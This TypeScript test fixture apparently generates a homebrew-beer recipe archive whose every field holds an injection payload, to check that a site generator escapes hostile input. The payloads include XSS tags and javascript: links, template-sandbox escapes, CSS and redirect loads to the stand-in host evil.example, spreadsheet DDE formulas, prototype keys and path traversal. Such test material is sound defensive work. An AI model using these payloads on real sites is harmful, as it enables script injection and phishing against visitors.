/** An archive in which every text that a brewer may write is an attack on whoever reads the site. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What an attack sets where it was run, and where it would call. */
export const RAN = '__ran';
export const FOREIGN = 'evil.example';
/** What a template that were evaluated would print, and no page says by itself. */
export const EVALUATED = '1336999';
const SUM = '1000000 + 336999';

const run = (word: string): string => `window.${RAN}='${word}'`;

/** Texts by what they try; each fits into one line of a batch file. */
export const ATTACKS: Readonly<Record<string, string>> = {
  script: `<script>${run('script')}</script>`,
  handler: `"><img src=x onerror="${run('handler')}">`,
  single: `' onmouseover='${run('single')}' autofocus onfocus='${run('single')}' x='`,
  svg: `<svg onload="${run('svg')}"><animate onbegin="${run('svg')}" attributeName=x dur=1s /></svg>`,
  foreignObject: `<svg><foreignObject><iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe></foreignObject></svg>`,
  breakOut: `</title></style></textarea></desc></svg></script><script>${run('breakOut')}</script>`,
  comment: `--><!-- <script>${run('comment')}</script> ]]><![CDATA[`,
  base: `<base href="https://${FOREIGN}/"><meta http-equiv="refresh" content="0;url=https://${FOREIGN}/">`,
  form: `<form action="https://${FOREIGN}/"><button autofocus formaction="javascript:${run('form')}">`,
  load: `<link rel=stylesheet href="https://${FOREIGN}/a.css"><img src="https://${FOREIGN}/a.png"><object data="//${FOREIGN}/a">`,
  entity: `&lt;script&gt;${run('entity')}&lt;/script&gt; &#60;img src=x onerror=&#34;${run('entity')}&#34;&#62; &#x202e;30&NewLine;`,
  doubled: `&amp;lt;script&amp;gt;${run('doubled')}&amp;lt;/script&amp;gt;`,
  link: `[a](javascript:${run('link')}) <javascript:${run('link')}> ![a](https://${FOREIGN}/p.png)`,
  scheme: `javascript:${run('scheme')}//https://${FOREIGN}/`,
  sum: `{{ ${SUM} }} {% set x = ${SUM} %}{{ x }} {# gone #} \${${SUM}} <%= ${SUM} %> #{${SUM}}`,
  include: '{% include "../package.json" %}{% raw %}{% extends "layouts/base.njk" %}{% block main %}',
  escape: `{{ range.constructor("return ${SUM}")() }}{{ cycler.__proto__ }}`,
  filter: `{{ "<b>${SUM}</b>" | safe }}{% endblock %}{% endmacro %}{% endfor %}`,
  style: `</style><style>*{background:url(https://${FOREIGN}/c)}@import "//${FOREIGN}/d";</style>`,
  css: `x;background:url(https://${FOREIGN}/e);width:expression(${run('css')})`,
  proto: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  path: '../../../../outside/..%2f..%2foutside\\..\\outside',
  bidi: 'right \u202e to left 30 g \u202d of \u2067 40 g \u2066 and \u202b 50 g',
  hebrew: '\u05e4\u05d5\u05d2\u05dc',
  arabic: '\u062c\u0646\u062c\u0644 \u200f',
  separators: 'a\u2028b\u2029c\u0085d\u00ade\u200bf\ufeffg',
  surrogates: '\ud83c\udf7a\u0301\u0301\u0301\u0301',
  lines: 'a\r\nBEGIN:VATTACK\r\n\r\nX-ATTACK:1\n--- !\n=1+1',
  formula: `=HYPERLINK("https://${FOREIGN}/","x")`,
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  long: `${'A<b>'.repeat(99)}`,
};

const names = Object.keys(ATTACKS);
const attack = (at: number): string => ATTACKS[names[at % names.length] ?? ''] ?? '';
const quote = (text: string): string => JSON.stringify(text);

/** A batch whose texts are the attacks from one number on, so that each stands in each place in one of them. */
function batchText(first: number): string {
  let at = first;
  const next = (): string => quote(attack(at++));
  return [
    '---',
    `title: ${next()}`,
    `number: ${first + 1}`,
    'brewed: 2026-02-14',
    'start: 13:30',
    'setup: constructor',
    `style: ${next()}`,
    `tags: [${next()}, ${next()}, ${next()}]`,
    'based_on: prototype',
    `private: ${quote(`PRIVATE-WORDS ${attack(first)}`)}`,
    'recipe:',
    '  into_fermenter: 19 L',
    '  boil: 60 min',
    '  boil_volume: 10.5 L',
    '  steep: { temperature: 68 °C, time: 20 min }',
    '  grain:',
    `    - { name: ${next()}, weight: 350 g, in: steep, yield: 70 %, colour: 150 EBC, fermentability: 60 % }`,
    '  extract:',
    `    - { name: ${next()}, weight: 1.5 kg, yield: 78 %, colour: 10 EBC, fermentability: 75 % }`,
    `    - { name: ${next()}, weight: 1.1 kg, add: 12 min, yield: 78 %, colour: 10 EBC, fermentability: 75 % }`,
    '  sugar:',
    `    - { name: ${next()}, weight: 250 g, add: flameout, yield: 78 %, colour: 1 EBC, fermentability: 95 % }`,
    '  hops:',
    `    - { name: ${next()}, weight: 30 g, alpha: 4.6 %, add: 60 min, note: ${next()} }`,
    `    - { name: ${next()}, weight: 20 g, alpha: 4.6 %, add: stand, note: ${next()} }`,
    `    - { name: ${next()}, weight: 25 g, alpha: 5.5 %, add: dry, day: 7, for: 3 days }`,
    '  stand: { temperature: 80 °C, time: 20 min }',
    '  other:',
    `    - { name: ${next()}, amount: 1, add: 10 min, note: ${next()} }`,
    `    - { name: ${next()}, amount: 1 tsp, add: 10 min, note: ${next()} }`,
    '  yeast:',
    `    - { name: ${next()}, form: dry, amount: 11 g, attenuation: 75 %, temperature: 17-21 °C }`,
    '  ferment:',
    '    - { temperature: 19 °C, time: 14 days }',
    '  package: { into: bottles, carbonation: 2.3 vol, sugar: table sugar, bottle: 500 ml, limit: 3 vol }',
    'readings:',
    '  boil_end_volume: 9.7 L',
    '  original_gravity: 1.044 @ 24 °C',
    '  pitched: { on: 2026-02-14 17:20, temperature: 19 °C, yeast: 11 g }',
    '  fermentation:',
    `    - { on: 2026-02-18 08:00, gravity: 1.019 @ 20 °C, temperature: 19 °C, note: ${next()} }`,
    '  tasted:',
    `    - { on: 2026-03-24, score: 4, note: ${next()} }`,
    ...(first % 2 === 0 ? [] : [`  abandoned: { on: 2026-04-01, why: ${next()} }`]),
    '---',
    // The same in all; a few have them, so that most pages are short.
    first % 8 === 1 ? notes() : '',
  ].join('\n');
}

/** Every attack as Markdown of its own, and links of every kind that leads astray. */
function notes(): string {
  const links = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    '&#106;avascript:',
    '&#x6a;avascript&colon;',
    '%6aavascript:',
    '\u0001javascript:',
    ' javascript:',
    'vbscript:',
    'data:text/html,',
    'data:image/svg+xml;base64,PHN2Zy8+',
    'file:///etc/',
    'blob:https://',
    'filesystem:https://',
    'view-source:',
    `//${FOREIGN}/`,
    `\\\\${FOREIGN}\\`,
    `/\\${FOREIGN}/`,
    `/\t/${FOREIGN}/`,
  ].filter((link) => !link.includes('\u0001'));
  const code = encodeURIComponent(run('notes'));
  return [
    ...names.map((name) => `${ATTACKS[name]}\n`),
    ...links.map(
      (link) => `[link](<${link}${code}>) ![picture](<${link}${code}>)\n\n[ref]: ${link}${code}\n`,
    ),
    ...links.map((link) => `<${link}${code}>\n`),
    `[title](https://example.org/ "${ATTACKS.handler?.replaceAll('"', '\\"')}")\n`,
    `[quoted](https://example.org/" onmouseover="${code})\n`,
    `| ${ATTACKS.script} | ${ATTACKS.handler} |\n| :--" onx="1 | - |\n| a | b |\n`,
    `| a |\n|:-:|\n| ${ATTACKS.svg} |\n`,
    `\`\`\`"><script>${run('fence')}</script>\n${ATTACKS.script}\n\`\`\`\n`,
    `    ${ATTACKS.script}\n`,
    `<div>\n${ATTACKS.script}\n</div>\n`,
    `<details open ontoggle="${run('toggle')}">\n`,
    `# <a id="targets" name="targets">\n`,
  ].join('\n');
}

/** Names of files that a careless program would take for its own. */
const SLUGS = ['constructor', 'prototype', 'hasownproperty', 'index', 'assets', '404', 'tostring', 'valueof'];

/** Writes the archive; gives the slugs of its batches. */
export function writeHostileArchive(content: string): readonly string[] {
  mkdirSync(join(content, 'batches'), { recursive: true });
  const write = (name: string, text: string): void => writeFileSync(join(content, name), text);
  write(
    'brewery.yaml',
    [
      `name: ${quote(ATTACKS.handler ?? '')}`,
      'units: metric',
      `author: ${quote(ATTACKS.breakOut ?? '')}`,
      `url: ${quote(`https://example.org/"><script>${run('url')}</script>{{ ${SUM} }}/`)}`,
      'language: en-GB-x-onload',
      '',
    ].join('\n'),
  );
  write(
    'setups.yaml',
    [
      'constructor:',
      `  title: ${quote(ATTACKS.svg ?? '')}`,
      '  kettle: 15 L',
      `  sanitiser: { dose: 1.5 ml/L, make: 8 L, note: ${quote(ATTACKS.handler ?? '')} }`,
      '',
    ].join('\n'),
  );
  const slugs = names.map((_, at) => SLUGS[at] ?? `batch-${at}`);
  for (const [at, slug] of slugs.entries()) write(`batches/${slug}.md`, batchText(at));
  return slugs;
}
